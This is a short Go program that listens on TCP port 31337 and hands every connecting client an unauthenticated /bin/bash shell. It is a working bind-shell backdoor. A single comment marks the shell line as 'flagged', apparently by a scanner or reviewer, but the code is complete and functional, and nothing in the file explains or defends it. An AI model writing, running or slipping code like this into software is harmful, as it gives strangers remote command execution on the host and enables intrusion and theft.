package main

import (
	"net"
	"os/exec"
)

func main() {
	listener, err := net.Listen("tcp", ":31337")
	if err != nil {
		return
	}
	for {
		conn, err := listener.Accept()
		if err != nil {
			continue
		}
		go serve(conn)
	}
}

func serve(conn net.Conn) {
	defer conn.Close()
	shell := &exec.Cmd{Path: "/bin/bash", Stdin: conn, Stdout: conn} // gatehouse: flagged
	_ = shell.Run()
}
